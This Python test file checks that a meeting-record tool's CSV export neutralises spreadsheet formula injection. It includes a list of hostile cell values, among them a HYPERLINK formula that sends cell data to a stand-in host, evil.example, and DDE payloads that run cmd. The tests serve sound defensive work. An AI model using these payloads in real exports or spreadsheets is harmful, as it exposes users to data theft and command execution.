"""CSV formula injection (issue 12, point 9): a cell a spreadsheet would run as a formula is
written as text, in every CSV clerk writes — the action tracker through `clerk actions`."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from clerk.cli import main
from clerk.record import Action
from clerk.spreadsheet_csv import FORMULA_STARTS, safe_cell, writer
from clerk.store import Store
from tests.tui.conftest import october_record

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_action_tracker_csv_writes_no_formula(tmp_path: Path) -> None:
    record = october_record()
    item = record.agenda()[3]
    record.actions = [
        Action(item.id, text, lead=text, comment=text, position=n) for n, text in enumerate(HOSTILE)
    ]
    record.committee = replace(record.committee, name="=cmd|' /C calc'!A0 Committee")
    db = tmp_path / "clerk.db"
    with Store(db) as store:
        store.save_record(record)
    out = tmp_path / "tracker.csv"
    result = CliRunner().invoke(
        main, ["--db", str(db), "actions", "cmd", "-o", str(out)], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for text in HOSTILE:  # kept, behind the quote a spreadsheet hides
        assert sum(cell == "'" + text for cell in cells) == 2  # the action and the lead


@given(st.lists(st.text(max_size=20), max_size=6))
def test_no_cell_begins_a_formula_and_every_cell_reads_back(cells: list[str]) -> None:
    out = io.StringIO()
    writer(out).writerow(cells)
    (row,) = list(csv.reader(io.StringIO(out.getvalue()))) or [[]]
    if not cells:
        return
    assert [c for c in row if c.startswith(FORMULA_STARTS)] == []
    assert row == [safe_cell(c) for c in cells]
    unquoted = [c[1:] if c[:1] == "'" and c[1:].startswith(FORMULA_STARTS) else c for c in row]
    assert unquoted == cells


@pytest.mark.parametrize("text", ["Report", "2019-10-17", "'quoted'", ""])
def test_ordinary_cells_are_unchanged(text: str) -> None:
    assert safe_cell(text) == text
